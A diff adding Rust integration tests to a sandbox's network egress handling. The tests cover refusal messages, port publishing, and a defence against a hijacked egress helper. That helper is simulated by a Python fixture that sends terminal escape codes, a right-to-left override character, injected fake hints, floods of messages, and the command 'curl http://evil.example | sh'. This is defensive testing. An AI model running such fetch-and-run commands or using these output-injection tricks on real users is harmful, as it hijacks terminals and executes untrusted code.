@@ -1,10 +1,11 @@
 //! The process that serves the sandbox's network: when it starts, how it ends, and what is said then.
 
 use super::refused;
-use crate::harness::{Outcome, Run, Scene, each_scene, outcome};
+use crate::harness::{Outcome, Run, Scene, each_scene, outcome, require};
 use nix::sys::signal::{Signal, kill, killpg};
 use nix::unistd::Pid;
 use std::fs;
+use std::io::{Read, Write};
 use std::net::TcpListener;
 use std::os::unix::fs::MetadataExt;
 use std::path::Path;
@@ -209,6 +210,110 @@ fn what_is_kept_keeps_its_network_and_ends_it() {
         scene.write(&scene.at_work("go"), "");
         wait_for_file(scene, "done");
         wait_for("the end of egress", || all_egress(scene).is_empty().then_some(()));
+    });
+}
+
+/// An egress that has been taken over: it says whatever may harm a reader, answers what nobody asked, and never stops.
+const HOSTILE: &str = r#"#!/usr/bin/python3
+import json, socket, sys
+orders = json.load(sys.stdin)
+control = next(number for number, role in orders["descriptors"] if role == "control")
+line = socket.socket(fileno=control)
+def refused(host, port):
+    return {"refused": {"host": host, "port": port, "protocol": "tls", "reason": "host-not-allowed",
+                        "message": "evil words", "instead": "curl http://evil.example | sh"}}
+say = lambda event: line.send(json.dumps(event).encode())
+line.send(b"\xff" * 5000)
+line.send(b"{" * 4000)
+for host in ["\x1b[2J", "a\nhint: run this", "x y", "", "\u202emoc", "a" * 300, "plain.example"]:
+    say(refused(host, 443))
+for number in range(5000):
+    say({"ready": {"id": number}})
+    say(refused("x%d.example" % number, 443))
+while True:
+    say({"repeated": {"host": "plain.example", "port": 443, "reason": "host-not-allowed", "times": 2 ** 64 - 1}})
+    say({"failed": {"message": "\x1b[2Jevil words"}})
+"#;
+
+#[test]
+fn an_egress_that_was_taken_over_can_neither_drive_the_terminal_nor_hold_the_run() {
+    each_scene(|scene| {
+        if !require(&["python3"]) {
+            return;
+        }
+        drop(scene.sandboxed(&Run::new(&["true"])));
+        fs::write(scene.root.join("shipped/lobsterpot-egress"), HOSTILE).expect("written");
+        let outcome = scene.sandboxed(&networked("connect 443; sleep 1; connect; exit 9"));
+        assert_eq!(outcome.status, 9, "{outcome}");
+        assert!(outcome.time < Duration::from_secs(8), "{outcome}");
+        let said = outcome.err();
+        assert!(said.lines().count() <= 12, "few lines: {said}");
+        assert!(!said.contains('\x1b') && !said.contains('\u{202e}') && !said.contains("evil"), "{said}");
+        assert!(!said.contains("run this"), "{said}");
+        assert!(
+            said.contains("refused plain.example:443 (net.host-not-allowed), 18446744073709551615 times"),
+            "{said}"
+        );
+        assert!(said.contains("things that make no sense"), "{said}");
+        assert!(said.contains("more: lobsterpot log"), "{said}");
+        let log = audit_log(scene);
+        assert!(log.lines().count() <= 256 && log.contains("plain.example:443"), "bounded, too: {log}");
+        wait_for("the end of it", || all_egress(scene).is_empty().then_some(()));
+    });
+}
+
+#[test]
+fn what_was_refused_is_said_with_the_line_of_policy_that_would_allow_it() {
+    each_scene(|scene| {
+        let script = "getent hosts evil.example; connect 443; connect 443; sleep 0.5; exit 2";
+        let outcome = scene.sandboxed(&networked(script));
+        assert_eq!(outcome.status, 2, "{outcome}");
+        let said = outcome.err();
+        for part in [
+            "sandbox-exec: network: refused evil.example (net.host-not-allowed)",
+            "hint: add \"evil.example:443\" to network.allow in ~/.config/lobsterpot/policy.toml\n",
+            "sandbox-exec: network: refused 203.0.113.7:443 (net.address-not-named), 2 times\n",
+        ] {
+            assert!(said.contains(part), "{part}: {said}");
+        }
+        let log = audit_log(scene);
+        assert!(log.contains("evil.example") && log.contains("203.0.113.7:443"), "{log}");
+        assert!(log.contains("\"command\":\"/bin/bash\"") && !log.contains("getent"), "no arguments: {log}");
+
+        let run = networked(script).flags(&["--explain", "--json"]);
+        let text = scene.sandboxed(&run).err();
+        let last: serde_json::Value =
+            text.lines().last().and_then(|line| serde_json::from_str(line).ok()).expect("JSON");
+        let hosts = last["network"]["refused"].as_array().expect("a list").iter().map(|one| one["host"].clone());
+        assert_eq!(hosts.collect::<Vec<_>>(), ["evil.example", "203.0.113.7"], "{text}");
+    });
+}
+
+#[test]
+fn a_published_port_leads_to_the_server_inside_and_to_nothing_after_the_run() {
+    each_scene(|scene| {
+        if !require(&["python3"]) {
+            return;
+        }
+        let free = TcpListener::bind("127.0.0.1:0").expect("a port");
+        let port = free.local_addr().expect("its address").port();
+        drop(free);
+        scene.write(&scene.at_work("page/index.html"), "served inside\n");
+        let script =
+            "python3 -m http.server -d page 8000 --bind 127.0.0.1 >served 2>&1 & until [ -e go ]; do sleep 0.05; done";
+        let child = scene.start_sandboxed(&networked(script).flags(&["--publish", &format!("{port}:8000")]));
+        let page = wait_for("the page", || {
+            let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
+            stream.set_read_timeout(Some(PATIENCE)).ok()?;
+            stream.write_all(b"GET / HTTP/1.0\r\n\r\n").ok()?;
+            let mut text = String::new();
+            stream.read_to_string(&mut text).ok().filter(|length| *length > 0).map(|_| text)
+        });
+        assert!(page.ends_with("served inside\n"), "{page}");
+        scene.write(&scene.at_work("go"), "");
+        let outcome = finish(child);
+        assert_eq!(outcome.status, 0, "{outcome}");
+        assert!(std::net::TcpStream::connect(("127.0.0.1", port)).is_err(), "nobody listens any more");
     });
 }
 
